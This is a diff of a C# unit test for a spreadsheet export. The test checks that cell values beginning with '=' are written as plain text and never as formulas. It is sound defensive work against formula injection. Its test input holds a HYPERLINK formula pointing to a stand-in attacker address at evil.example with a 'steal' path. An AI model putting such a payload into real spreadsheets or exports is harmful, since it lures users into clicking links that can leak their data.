@@ -108,6 +108,23 @@ public sealed class XlsxExportTests
         Assert.Equal("10.12", rows.Where(r => r[0] == "10").Last()[2]);
     }
 
+    [Fact]
+    public void A_cell_that_starts_with_an_equals_sign_is_written_as_text_exactly_never_as_a_formula()
+    {
+        const string text = "=HYPERLINK(\"http://evil.example/steal\",\"Відкрити звіт\")";
+        const string executor = "=1+2";
+        using var book = Open(ExportPlans.OneMeasure(text, executor));
+
+        var sheet = Sheet(book, "Заходи");
+        Assert.Empty(book.WorkbookPart!.WorksheetParts.SelectMany(p => p.Worksheet!.Descendants<CellFormula>()));
+        Assert.Equal(CellValues.SharedString, sheet.Descendants<Cell>().Single(c => c.CellReference == "D2").DataType!.Value);
+        Assert.Equal(CellValues.SharedString, sheet.Descendants<Cell>().Single(c => c.CellReference == "I2").DataType!.Value);
+        var row = Rows(book, "Заходи")[1];
+        Assert.Equal(text, row[3]);
+        Assert.Equal(executor, row[8]);
+        Assert.Equal(executor, Rows(book, "Виконавці")[1][0]);
+    }
+
     private static string DateSerial(DateOnly date) => (date.DayNumber - new DateOnly(1899, 12, 30).DayNumber).ToString();
 
     private static SpreadsheetDocument Open(ProgrammeDocument d) =>
